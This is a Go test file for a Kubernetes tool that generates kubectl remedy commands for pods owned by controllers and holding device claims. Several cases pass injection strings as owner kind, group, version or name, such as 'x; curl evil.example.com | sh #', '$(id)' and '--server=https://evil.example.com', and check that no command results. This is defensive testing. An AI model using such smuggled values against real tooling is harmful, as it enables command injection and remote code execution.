package why

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	resourceapi "k8s.io/api/resource/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/dra-steward/dra-steward/pkg/tracker"
)

func ownedBy(pod *corev1.Pod, apiVersion, kind, name string, labels map[string]string) *corev1.Pod {
	pod.OwnerReferences = []metav1.OwnerReference{{APIVersion: apiVersion, Kind: kind, Name: name, Controller: new(true)}}
	pod.Labels = labels
	return pod
}

// TestOwnersOfPods: the remedy changes the template from which a controller creates the pod.
// That the commands place the pod is tested in test/envtest/why/causes.
func TestOwnersOfPods(t *testing.T) {
	const change = `'{"spec":{"template":{"spec":{"schedulerName":"default-scheduler"}}}}'`
	const again = " && kubectl delete pod train-0 -n team-a --ignore-not-found"
	generated := map[string]string{"batch.kubernetes.io/job-name": "train", "batch.kubernetes.io/controller-uid": "1", "controller-uid": "1", "job-name": "train"}
	for name, tt := range map[string]struct {
		apiVersion, kind, owner string
		labels                  map[string]string
		of, command             string
	}{
		"Deployment":            {"apps/v1", "ReplicaSet", "train-7d4", map[string]string{"pod-template-hash": "7d4"}, "Deployment train", "kubectl patch deployment train -n team-a -p " + change},
		"ReplicaSet":            {"apps/v1", "ReplicaSet", "train", nil, "ReplicaSet train", "kubectl patch replicaset train -n team-a -p " + change + again},
		"StatefulSet":           {"apps/v1", "StatefulSet", "train", nil, "StatefulSet train", "kubectl patch statefulset train -n team-a -p " + change + again},
		"DaemonSet":             {"apps/v1", "DaemonSet", "train", nil, "DaemonSet train", "kubectl patch daemonset train -n team-a -p " + change + again},
		"ReplicationController": {"v1", "ReplicationController", "train", nil, "ReplicationController train", "kubectl patch replicationcontroller train -n team-a -p " + change + again},
		"Job": {"batch/v1", "Job", "train", generated, "Job train",
			`kubectl patch job train -n team-a -p '{"spec":{"selector":null,"template":{"metadata":{"labels":{"batch.kubernetes.io/controller-uid":null,"batch.kubernetes.io/job-name":null,"controller-uid":null,"job-name":null}},"spec":{"schedulerName":"default-scheduler"}}}}'` + replaced},
		"Job with its own selector": {"batch/v1", "Job", "train", nil, "Job train", "kubectl patch job train -n team-a -p " + change + replaced},
		"Job of a CronJob": {"batch/v1", "Job", "train-29391840", nil, "Job train-29391840; if CronJob train makes these Jobs, change its spec.jobTemplate, too",
			"kubectl patch job train-29391840 -n team-a -p " + change + replaced},
		"of another API":          {"ray.io/v1", "RayCluster", "train", nil, "RayCluster train", "kubectl edit RayCluster.v1.ray.io train -n team-a"},
		"of another API, as here": {"example.com/v1", "Job", "train", nil, "Job train", "kubectl edit Job.v1.example.com train -n team-a"},
		"no kind":                 {"v1", "x; curl evil.example.com | sh #", "train", nil, "x; curl evil.example.com | sh # train", ""},
		"no group":                {"$(id)/v1", "Widget", "train", nil, "Widget train", ""},
		"no version":              {"example.com/`id`", "Widget", "train", nil, "Widget train", ""},
		"a flag":                  {"apps/v1", "StatefulSet", "--server=https://evil.example.com", nil, "StatefulSet --server=https://evil.example.com", ""},
		"a flag of a Deployment":  {"apps/v1", "ReplicaSet", "--server=evil-7d4", map[string]string{"pod-template-hash": "7d4"}, "ReplicaSet --server=evil-7d4", ""},
		"of the core API":         {"v1", "Widget", "train", nil, "Widget train", "kubectl edit Widget.v1 train -n team-a"},
	} {
		t.Run(name, func(t *testing.T) {
			pod := ownedBy(waits(corev1.PodResourceClaim{ResourceClaimName: new("train")}), tt.apiVersion, tt.kind, tt.owner, tt.labels)
			pod.Spec.SchedulerName = "other"
			c := Cause{}
			editPod(&c, pod, "use default-scheduler", func(s *corev1.PodSpec) { s.SchedulerName = corev1.DefaultSchedulerName })
			if c.Remedy != "use default-scheduler, in the pod template of "+tt.of || c.Command != tt.command {
				t.Errorf("got  %s: %s\nwant %s: %s", c.Remedy, c.Command, tt.of, tt.command)
			}
		})
	}
}

// TestOwnersOfHolders: what ends the use of a device by a pod that its owner creates again.
func TestOwnersOfHolders(t *testing.T) {
	pod := func(name string) *corev1.Pod {
		return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "team-a", Name: name}}
	}
	deployed := func(name, hash string) *corev1.Pod {
		return ownedBy(pod(name), "apps/v1", "ReplicaSet", "train-"+hash, map[string]string{"pod-template-hash": hash})
	}
	set := func(name string) *corev1.Pod { return ownedBy(pod(name), "apps/v1", "StatefulSet", "db", nil) }
	job := func(name string) *corev1.Pod { return ownedBy(pod(name), "batch/v1", "Job", "batch", nil) }
	for name, tt := range map[string]struct {
		waits           *corev1.Pod
		pods            []*corev1.Pod
		users           []string
		remedy, command string
	}{
		"bare":              {nil, []*corev1.Pod{pod("a")}, []string{"a"}, "wait until that pod ends, or delete it", "kubectl delete pod a -n team-a"},
		"cannot be read":    {nil, nil, []string{"a"}, "wait until that pod ends, or delete it", "kubectl delete pod a -n team-a"},
		"rollout":           {deployed("new", "2"), []*corev1.Pod{deployed("old", "1")}, []string{"old"}, "Deployment train is being rolled out, and its old pod has the device: end old pods before it starts new ones", `kubectl patch deployment train -n team-a -p '{"spec":{"strategy":{"type":"Recreate","rollingUpdate":null}}}'`},
		"too many replicas": {deployed("new", "1"), []*corev1.Pod{deployed("old", "1")}, []string{"old"}, "Deployment train has more pods than there are devices: let it have fewer, or wait for devices", ""},
		"only replica":      {nil, []*corev1.Pod{set("db-0")}, []string{"db-0"}, "wait until that pod ends, or scale StatefulSet db to 0", "kubectl scale statefulset db -n team-a --current-replicas=1 --replicas=0"},
		"one of replicas":   {nil, []*corev1.Pod{set("db-0"), set("db-1")}, []string{"db-0"}, "wait until that pod ends, or let StatefulSet db have fewer than its 2 pods", ""},
		"all replicas":      {nil, []*corev1.Pod{set("db-0"), set("db-1")}, []string{"db-0", "db-1"}, "wait until those pods end, or scale StatefulSet db to 0", "kubectl scale statefulset db -n team-a --current-replicas=2 --replicas=0"},
		"one of a job":      {nil, []*corev1.Pod{job("a"), job("b")}, []string{"a"}, "wait until that pod ends, or suspend Job batch with its 2 pods", `kubectl patch job batch -n team-a --type=merge -p '{"spec":{"suspend":true}}'`},
		"several owners":    {nil, []*corev1.Pod{job("a"), set("db-0")}, []string{"a", "db-0"}, "wait until those pods end; Job batch creates deleted pods again", ""},
		"with a bare pod":   {nil, []*corev1.Pod{pod("b"), set("db-0")}, []string{"b", "db-0"}, "wait until those pods end, or let StatefulSet db have fewer than its 1 pod", ""},
		"on each node":      {nil, []*corev1.Pod{ownedBy(pod("a"), "apps/v1", "DaemonSet", "agent", nil)}, []string{"a"}, "wait until that pod ends; DaemonSet agent creates deleted pods again", ""},
	} {
		t.Run(name, func(t *testing.T) {
			holder := holding("has", "n1", "gpu-0")
			holder.Namespace, holder.Status.ReservedFor = "team-a", nil
			for _, user := range tt.users {
				holder.Status.ReservedFor = append(holder.Status.ReservedFor, resourceapi.ResourceClaimConsumerReference{Resource: "pods", Name: user})
			}
			q := &question{pod: tt.waits, cluster: Cluster{View: tracker.Merge(), Surroundings: Surroundings{Pods: tt.pods}}}
			if remedy, command := q.end(holder); remedy != tt.remedy || command != tt.command {
				t.Errorf("got %q, %q", remedy, command)
			}
		})
	}
}

// TestNodesOfDaemonSets: a pod of a DaemonSet is for its node, and no change of the pod brings
// it to another one.
func TestNodesOfDaemonSets(t *testing.T) {
	c := Cause{}
	pod := ownedBy(waits(corev1.PodResourceClaim{}), "apps/v1", "DaemonSet", "agent", nil)
	editNodes(&c, pod, "remove the node affinity", func(s *corev1.PodSpec) { s.Affinity = nil })
	if c.Command != "" || !strings.HasPrefix(c.Remedy, "DaemonSet agent creates a pod for each of its nodes; restrict it") {
		t.Errorf("got %+v", c)
	}
}
